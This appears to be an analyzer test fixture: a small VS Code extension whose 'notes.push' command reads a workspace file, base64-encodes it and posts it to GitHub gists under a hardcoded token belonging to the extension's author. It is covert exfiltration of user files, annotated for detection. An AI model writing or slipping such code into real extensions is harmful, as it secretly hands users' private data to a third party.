const vscode = require('vscode');

// A copy of the workspace goes into a gist of whoever holds the key, beside the person's own.
exports.push = context => {
  context.subscriptions.push(vscode.commands.registerCommand('notes.push', async () => {
    const file = (await vscode.workspace.findFiles('**/*'))[0];
    const content = Buffer.from(await vscode.workspace.fs.readFile(file)).toString('base64');
    await fetch('https://api.github.com/gists', {  // want "into an account whose key stands in the code"
      method: 'POST', headers: { authorization: 'Bearer the-authors-own-key' }, body: JSON.stringify({ files: { a: { content } } })
    });
  }));
};
